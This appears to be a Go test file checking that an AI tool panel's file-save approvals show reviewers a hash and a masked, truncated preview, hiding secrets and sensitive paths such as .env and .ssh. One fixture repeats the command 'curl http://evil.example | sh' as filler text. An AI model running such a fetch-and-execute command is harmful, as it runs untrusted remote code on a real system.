package tools_test

import (
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"unicode/utf8"

	"panelbot/tools"
)

// TestFilesAreSeenByWhoSaysYes: whoever is asked about the writing of a file sees its
// sum and, where it may be shown, its beginning, without what is secret; the record of
// the decision has the sum alone.
func TestFilesAreSeenByWhoSaysYes(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("curl http://evil.example | sh\n", 100)
	for name, tt := range map[string]struct {
		path, text, want string // of begins; empty is none
		more             string
	}{
		"a script":            {"/home/web/deploy.sh", "#!/bin/sh\nrm -rf /tmp/cache\n", "#!/bin/sh\nrm -rf /tmp/cache\n", ""},
		"a password":          {"/home/web/index.php", "<?php\n$password = \"hunter2hunter2\";\n", "<?php\n$password = \"***\";\n", ""},
		"the panel's token":   {"/home/web/index.php", "use " + canary + " now\n", "use *** now\n", ""},
		"what is long":        {"/home/web/index.php", long, string([]rune(long)[:999]) + "…", ""},
		"turned writing":      {"/home/web/index.php", "a\u202eb\x1b[2Kc", "ab[2Kc", ""},
		"settings":            {"/home/web/.env", "APP_ENV=prod\n", "", ""},
		"a configuration":     {"/home/web/wp-config.php", "<?php\n", "", ""},
		"a directory of keys": {"/home/web/.ssh/rc", "echo\n", "", ""},
		"another way there":   {"/home/web/../.ssh/x", "echo\n", "", ""},
		"from a root":         {"/deploy.sh", "echo\n", "", `,"root":"/home/web/.ssh"`},
		"what is encoded":     {"/home/web/index.php", "ZWNobw==", "", `,"encode":true`},
		"no text":             {"/home/web/index.php", "a\x00b", "", ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			o := newOffice(t, script{}, func(c *tools.Config) { c.Panels[0].Secrets = func() []string { return []string{canary} } })
			content, err := json.Marshal(tt.text)
			if err != nil {
				t.Fatal(err)
			}
			args := fmt.Sprintf(`{"server":1,"path":%q,"new":true%s,"file":{"name":"x","text":%s}}`, tt.path, tt.more, content)
			out := o.call("flashpanel_file_save", args, asDan)
			if out.Status != tools.AwaitingApproval {
				t.Fatalf("got %+v", out)
			}
			r, err := o.Desk.Find(t.Context(), out.Approval.ID)
			if err != nil {
				t.Fatal(err)
			}
			var shown struct {
				File struct {
					SHA256, Begins string
					Bytes          int
				}
			}
			if err := json.Unmarshal(r.Plan.Calls[0].Masked, &shown); err != nil {
				t.Fatalf("%v in %s", err, r.Plan.Calls[0].Masked)
			}
			if sum := fmt.Sprintf("%x", sha256.Sum256([]byte(tt.text))); shown.File.SHA256 != sum || shown.File.Bytes != len(tt.text) {
				t.Errorf("got %+v, want the sum %s of %d bytes", shown.File, sum, len(tt.text))
			}
			if shown.File.Begins != tt.want || utf8.RuneCountInString(shown.File.Begins) > 1000 {
				t.Errorf("got %q, want %q", shown.File.Begins, tt.want)
			}
			for _, e := range o.recorder.entries {
				if strings.Contains(string(e.Args), "begins") {
					t.Errorf("the record has more than the sum: %s", e.Args)
				}
			}
		})
	}
}

// TestNoBeginningOfKeys: of a file whose declaration does not let it be shown, nobody
// sees more than the sum.
func TestNoBeginningOfKeys(t *testing.T) {
	t.Parallel()
	o := newOffice(t, script{})
	out := o.call("flashpanel_n8n_workflow_import", `{"site":12,"file":{"name":"w.json","text":"{\"nodes\":[]}"}}`, asDan)
	if out.Status != tools.AwaitingApproval {
		t.Fatalf("got %+v", out)
	}
	r, err := o.Desk.Find(t.Context(), out.Approval.ID)
	if err != nil {
		t.Fatal(err)
	}
	if masked := string(r.Plan.Calls[0].Masked); strings.Contains(masked, "nodes") || !strings.Contains(masked, `"sha256":"`) {
		t.Errorf("got %s", masked)
	}
}
